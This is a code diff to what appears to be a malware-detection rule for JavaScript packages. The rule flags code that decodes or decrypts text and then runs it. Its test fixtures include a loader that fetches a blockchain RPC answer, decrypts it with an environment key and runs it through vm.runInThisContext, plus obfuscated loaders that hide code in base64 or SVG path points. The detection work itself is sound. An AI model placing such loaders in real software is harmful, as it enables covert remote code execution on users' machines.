@@ -2,6 +2,7 @@ import { isOfStart, isQuoted } from '../src/define/given.js';
 import { codeArguments, defineRule, spelling, step, stepsOf } from '../src/define.js';
 import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
 import { doesWhatItIsTold } from '../src/vocabulary/programs.js';
+import { isServed } from '../src/vocabulary/served.js';
 
 export default defineRule({
   meta: {
@@ -12,6 +13,7 @@ export default defineRule({
     behaviours: { read: 'obfuscation', plain: 'obfuscation', unfit: 'obfuscation' },
     messages: {
       decrypted: 'Decrypts text and runs it with {sink}',
+      sealed: 'Decrypts what another machine answered, and runs it with {sink}',
       decoded: 'Decodes text ({decoder}) and runs it with {sink}',
       file: 'Decodes the content of a file and runs it with {sink}',
       disguised: 'Decodes {what}, which is no code by its name, and runs it with {sink}',
@@ -26,6 +28,7 @@ export default defineRule({
     },
     bits: {
       decrypted: 12,
+      sealed: 13.5,
       decoded: 10.5,
       file: 9,
       disguised: 13.5,
@@ -42,11 +45,14 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'what a chain answers is decrypted and run',
+        code: `const crypto = require('crypto'), vm = require('vm');\nconst open = (text, key) => { const [iv, body] = text.split('.'); const d = crypto.createDecipheriv('aes-256-cbc', key, Buffer.from(iv, 'hex')); return d.update(body, 'base64', 'utf8') + d.final('utf8'); };\nfetch('https://rpc.invalid', { method: 'POST', body: '{"method":"eth_call"}' }).then(r => r.json()).then(({ result }) => vm.runInThisContext('(function(require){' + open(result, process.env.K) + '})')(require));`,
+      },
+      {
         title: 'a template is trimmed in code of which each word is encoded',
         files: {
           'package.json': `{"name":"a","version":"1.0.0"}`,
-          'index.js': `const fs = require('fs');
-module.exports = new Function(atob('cmV0dXJuIA==') + JSON.stringify(fs.readFileSync(__dirname + '/page.txt', 'utf8')) + atob('LnRyaW0oKQ=='));`,
+          'index.js': `const fs = require('fs');\nmodule.exports = new Function(atob('cmV0dXJuIA==') + JSON.stringify(fs.readFileSync(__dirname + '/page.txt', 'utf8')) + atob('LnRyaW0oKQ=='));`,
           'page.txt': `Hello`,
         },
       },
@@ -54,9 +60,7 @@ module.exports = new Function(atob('cmV0dXJuIA==') + JSON.stringify(fs.readFileS
         title: 'the points of a drawing are code',
         files: {
           'package.json': `{"name":"a","version":"1.0.0"}`,
-          'index.js': `const fs = require('fs'), Module = require('module');
-const points = [...fs.readFileSync(__dirname + '/logo.svg', 'utf8').matchAll(/L(\\d+)\\.(\\d+)/g)].map(([, a, b]) => [+a, +b]);
-new Module('m')._compile(Buffer.from(points.map(([a, b]) => (a << 4) | b)).toString(), 'm.js');`,
+          'index.js': `const fs = require('fs'), Module = require('module');\nconst points = [...fs.readFileSync(__dirname + '/logo.svg', 'utf8').matchAll(/L(\\d+)\\.(\\d+)/g)].map(([, a, b]) => [+a, +b]);\nnew Module('m')._compile(Buffer.from(points.map(([a, b]) => (a << 4) | b)).toString(), 'm.js');`,
           'logo.svg': `<svg><path d="M0 0L6.3 0L6.15 1"/></svg>`,
         },
       },
@@ -108,10 +112,7 @@ new Module('m')._compile(Buffer.from(points.map(([a, b]) => (a << 4) | b)).toStr
     passes: [
       {
         title: 'names out of the memory of a program are parts of code',
-        code: `var codes = new Array(256);
-for (var i = 0; i < 256; ++i) codes[i] = String.fromCharCode(i);
-var read = at => { var text = ''; while (memory[at]) text += codes[memory[at++]]; return text; };
-exports.wrap = (at, list) => { var body = []; body.push('return function ' + read(at) + '() {}'); return Function.apply(null, body); };`,
+        code: `var codes = new Array(256);\nfor (var i = 0; i < 256; ++i) codes[i] = String.fromCharCode(i);\nvar read = at => { var text = ''; while (memory[at]) text += codes[memory[at++]]; return text; };\nexports.wrap = (at, list) => { var body = []; body.push('return function ' + read(at) + '() {}'); return Function.apply(null, body); };`,
       },
       {
         title: 'names made of letters fill in code that is written out, in a function of its own',
@@ -243,7 +244,9 @@ function check(context: FileContext, call: Call, arg: Call['args'][number], shel
       : disguised
         ? 'disguised'
         : decrypted
-          ? 'decrypted'
+          ? labels.some(({ kind, detail }) => kind === 'remote' && !isServed(detail))
+            ? 'sealed'
+            : 'decrypted'
           : isOfPage(context, call)
             ? 'worker'
             : file
@@ -254,7 +257,8 @@ function check(context: FileContext, call: Call, arg: Call['args'][number], shel
   const isRead =
     messageId !== 'worker' &&
     messageId !== 'given' &&
-    ((shell ? isPlain(context, call, arg) : isKnown(context, arg)) || isKnownAround(context, arg, labels));
+    ((shell ? isPlain(context, call, arg) : isKnown(context, arg) && !labels.some(({ kind }) => kind === 'remote')) ||
+      isKnownAround(context, arg, labels));
   context.report({
     messageId: isRead ? (shell ? 'plain' : 'read') : messageId,
     data: { decoder: label.detail, sink: call.name, what: disguised?.detail ?? '' },
@@ -273,7 +277,8 @@ function isOfMedia({ kind, detail, through }: Label): boolean {
 
 /** Whether what is run is known from end to end: it was opened, and what it does is found in it. */
 function isKnown({ textsOf }: FileContext, arg: AnyNode): boolean {
-  return textsOf(arg).some(text => text.length >= SHORTEST && !text.includes('…'));
+  const texts = textsOf(arg);
+  return texts.some(text => text.length >= SHORTEST) && !texts.some(text => text.includes('…'));
 }
 
 /**
